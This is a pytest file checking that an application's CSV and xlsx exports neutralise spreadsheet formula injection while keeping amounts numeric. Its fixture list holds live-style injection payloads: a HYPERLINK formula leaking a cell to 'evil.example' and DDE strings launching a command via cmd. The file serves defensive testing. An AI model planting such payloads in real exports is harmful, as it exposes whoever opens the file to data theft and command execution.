"""Exports never hand a spreadsheet a live formula (issue #16): payer text that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written as inert text, in CSV and in
xlsx, while amounts, negative ones included, stay real numbers."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Column as SqlColumn
from sqlalchemy import Integer, MetaData, String, Table, insert

from app.domain.spreadsheet_text import FORMULA_TRIGGERS, neutralise_formula
from app.queries.export_view import export_view
from app.queries.sql_query import Column, QuerySpec
from app.store import Store, open_store

PAYER_TEXTS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Negative, positive and zero amounts (cents) and counts, one per payer text.
AMOUNTS = [-1250, 990, -1, 0, 123456, -99999]
COUNTS = [-3, 4, -5, 0, 7, -8]

_metadata = MetaData()
_payers = Table(
    "export_formula_rows",
    _metadata,
    SqlColumn("id", Integer, primary_key=True),
    SqlColumn("payer", String),
    SqlColumn("amount_cents", Integer),
    SqlColumn("count", Integer),
    SqlColumn("plain", String),
)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_each_trigger_gets_a_quote_and_plain_text_does_not(trigger: str):
    assert neutralise_formula(trigger + "1+1") == "'" + trigger + "1+1"
    assert neutralise_formula("ACME =1+1") == "ACME =1+1"
    assert neutralise_formula("") == ""


@pytest.fixture
def exported(tmp_path: Path) -> tuple[Store, QuerySpec, int]:
    store = open_store(tmp_path / "export.db")
    _metadata.create_all(store.writer)
    with store.write() as session:
        session.execute(
            insert(_payers),
            [
                {
                    "id": i + 1,
                    "payer": text,
                    "amount_cents": AMOUNTS[i],
                    "count": COUNTS[i],
                    "plain": f"Invoice {i + 1}",
                }
                for i, text in enumerate(PAYER_TEXTS)
            ],
        )
    columns = [
        Column("payer", "Payer", _payers.c.payer),
        Column("amount", "Amount", _payers.c.amount_cents, kind="money"),
        Column("count", "Count", _payers.c.count, kind="int"),
        Column("plain", "Reference", _payers.c.plain),
    ]
    spec = QuerySpec(columns=columns, source=_payers, key=_payers.c.id)
    yield store, spec, len(columns)
    store.dispose()


def test_csv_text_is_inert_and_amounts_stay_numbers(exported, tmp_path: Path):
    store, spec, shown = exported
    path = tmp_path / "view.csv"
    assert export_view(store, spec, shown, path) == len(PAYER_TEXTS)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    for row, text, cents, count in zip(rows, PAYER_TEXTS, AMOUNTS, COUNTS, strict=True):
        assert row[0] == "'" + text
        assert Decimal(row[1]) == Decimal(cents) / 100  # "-12.50", not "'-12.50"
        assert row[2] == str(count)
        assert row[3].startswith("Invoice ")


def test_xlsx_has_no_formula_and_amounts_stay_numbers(exported, tmp_path: Path):
    store, spec, shown = exported
    path = tmp_path / "view.xlsx"
    assert export_view(store, spec, shown, path) == len(PAYER_TEXTS)
    sheet = load_workbook(path).active
    assert sheet is not None
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(PAYER_TEXTS)
    for row, text, cents, count in zip(rows, PAYER_TEXTS, AMOUNTS, COUNTS, strict=True):
        assert all(cell.data_type != "f" for cell in row)
        payer, amount, counted, plain = row
        # XML reads a carriage return back as a line feed; the quote in front is what counts.
        assert payer.data_type == "s" and payer.value == "'" + text.replace("\r", "\n")
        assert amount.data_type == "n" and Decimal(str(amount.value)) == Decimal(cents) / 100
        assert counted.data_type == "n" and counted.value == count
        assert plain.value.startswith("Invoice ")
